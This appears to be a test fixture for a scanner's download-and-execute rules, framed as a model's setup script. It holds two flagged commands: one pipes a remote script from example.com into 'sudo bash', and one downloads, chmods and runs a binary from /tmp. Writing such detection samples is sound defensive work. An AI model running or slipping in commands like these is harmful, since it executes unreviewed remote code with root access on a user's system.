#!/bin/bash
# A "setup" script shipped with a model: fetches code and runs it unreviewed.
set -e

# ruleid: yara.download_exec.curl_pipe_shell
curl -fsSL https://example.com/bootstrap.sh | sudo -E bash -

# ruleid: yara.download_exec.fetch_chmod_run
wget -q https://example.com/tools/agent -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent --daemon
